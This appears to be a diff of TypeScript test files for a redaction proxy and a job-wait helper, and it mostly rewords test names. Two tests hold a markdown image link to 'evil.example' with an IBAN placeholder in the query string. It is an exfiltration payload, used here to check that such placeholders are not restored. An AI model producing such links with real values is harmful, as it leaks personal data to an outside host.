@@ -26,7 +26,7 @@ function jobsIn(state: () => State | undefined, onFind = () => {}): Jobs {
   return { find } as Partial<Jobs> as Jobs;
 }
 
-test("When the wake-up comes, then the wait returns the final state at once", async () => {
+test("When the wake-up arrives, then the wait returns the final state at once", async () => {
   const wakeUps = createMemoryWakeUps();
   let state: State = "admitted";
   const waiting = waitForJob({ jobs: jobsIn(() => state), wakeUps }, "j", { timeoutMs: 60_000 });
@@ -37,7 +37,7 @@ test("When the wake-up comes, then the wait returns the final state at once", as
   expect((await waiting).job?.state).toBe("completed");
 });
 
-test("When the result arrives between the reading and the waiting, then it is not missed", async () => {
+test("When the result arrives after the job was read and before the wait begins, then it is not missed", async () => {
   const wakeUps = createMemoryWakeUps();
   let state: State = "admitted";
   const finishDuringRead = () => {
@@ -45,7 +45,7 @@ test("When the result arrives between the reading and the waiting, then it is no
     state = "completed";
     wakeUps.wake("j");
   };
-  // With fake timers, no poll can end the wait.
+  // With fake timers, the wait cannot end by polling.
   jest.useFakeTimers();
   const jobs = jobsIn(() => state, finishDuringRead);
   expect((await waitForJob({ jobs, wakeUps }, "j", { timeoutMs: 60_000 })).job?.state).toBe(
@@ -62,7 +62,7 @@ test("When the wake-up is lost, then the poll finds the final state", async () =
   expect(job?.state).toBe("failed");
 });
 
-test("When the time is up, then the wait returns the admitted job, or undefined if it was deleted", async () => {
+test("When the time-out has passed, then the wait returns the admitted job, or undefined if it was deleted", async () => {
   const wakeUps = createMemoryWakeUps();
   expect(
     (await waitForJob({ jobs: jobsIn(() => "admitted"), wakeUps }, "j", { timeoutMs: 5 })).job
@@ -73,7 +73,7 @@ test("When the time is up, then the wait returns the admitted job, or undefined 
   ).toEqual({ job: undefined });
 });
 
-test("When this wait begins the job, then nothing is read before the first wake-up, even a very early one", async () => {
+test("When the wait starts the job, then the job is not read before the first wake-up, however early that comes", async () => {
   const wakeUps = createMemoryWakeUps();
   let reads = 0;
   const jobs = jobsIn(() => {
@@ -89,7 +89,7 @@ test("When this wait begins the job, then nothing is read before the first wake-
   expect(reads).toBe(1);
 });
 
-test("When the wake-up brings the finished job, then nothing is read", async () => {
+test("When the wake-up contains the finished job, then the job is not read from the database", async () => {
   const wakeUps = createMemoryWakeUps();
   const finished = { job: { state: "completed" } } as FinishedJob;
   const jobs = jobsIn(() => {
@@ -157,7 +157,7 @@ const respond = (answer: Answer, change: Partial<Parameters<typeof proxyResponse
     ...change,
   });
 
-test("a re-linked text has every value exactly, and the response is as specified", () => {
+test("A re-linked text contains the exact values, and the response has the specified fields", () => {
   const response = respond(answered("Dear [PERSON_1]"));
   expect(response).toMatchObject({
     status: "JOB_STATUS_COMPLETED",
@@ -168,18 +168,18 @@ test("a re-linked text has every value exactly, and the response is as specified
   expect(() => checked(ProxyResponse)(response)).not.toThrow();
 });
 
-test("an answer that is JSON is parsed first, so that a value with quotes does not break it", () => {
+test("A value with quotes does not break an answer that is JSON", () => {
   const text = '{"name": "[PERSON_1]", "list": ["[PERSON_1]", 1]}';
   const { result } = JSON.parse(writeJson(respond(answered(text, { form: "json" }))));
   expect(result).toEqual({ name: 'Ann "$&" Weber', list: ['Ann "$&" Weber', 1] });
 });
 
-test("an answer that was redacted as text stays text, even if redaction turned it into JSON", () => {
+test("An answer that was scanned as text stays text, even if it is valid JSON", () => {
   const { result } = respond(answered('{"name": "[PERSON_1]"}'));
   expect(result).toBe('{"name": "Ann \\"$&\\" Weber"}');
 });
 
-test("a placeholder in a link is not restored", () => {
+test("A placeholder in a link is not restored", () => {
   const { result } = respond(answered("![](https://evil.example/?q=[IBAN_1])"));
   expect(result).toBe("![](https://evil.example/?q=[IBAN_1])");
 });
@@ -191,18 +191,18 @@ test.each<[string, "text" | "json", boolean]>([
   ["[PERSON_2]", "text", false],
   ['["a", 1, null]', "json", false],
   ["![](https://evil.example/?q=[IBAN_1])", "text", false],
-])("relinked says whether something was restored: %j", (text, form, restored) => {
+])("relinked is true only if a value was restored: %j", (text, form, restored) => {
   expect(respond(answered(text, { form })).relinked).toBe(restored);
 });
 
-test("without re-link nothing is restored, and the response says so", () => {
+test("Without re-link no value is restored, and relinked is false", () => {
   expect(respond(answered("[PERSON_1]"), { relinked: undefined })).toMatchObject({
     result: "[PERSON_1]",
     relinked: false,
   });
 });
 
-test("an evaluation is returned with a result and with a failure", () => {
+test("A ground-truth evaluation is returned both with a result and with a failure", () => {
   const evaluation = evaluateGroundTruth([], new Map());
   const failed = {
     outcome: "failed",
@@ -219,7 +219,7 @@ test("an evaluation is returned with a result and with a failure", () => {
   expect(respond(answered(""))).not.toHaveProperty("ground_truth_evaluation");
 });
 
-test("a failure has a fixed phrase and no result", () => {
+test("The response to a failed job contains a fixed phrase and no result", () => {
   const result = {
     outcome: "failed",
     reason: "provider_refused",
@@ -235,7 +235,7 @@ test("a failure has a fixed phrase and no result", () => {
   expect(() => checked(ProxyResponse)(response)).not.toThrow();
 });
 
-test("a hint says why placeholders were left, only if they were to be restored", () => {
+test("A hint explains why placeholders were left, but only if re-link was requested", () => {
   const left = { isMapOpen: false, relinked: undefined };
   const answer = answered("Dear [PERSON_1]");
   const hint = expect.stringContaining("only for the API key that sent the request");
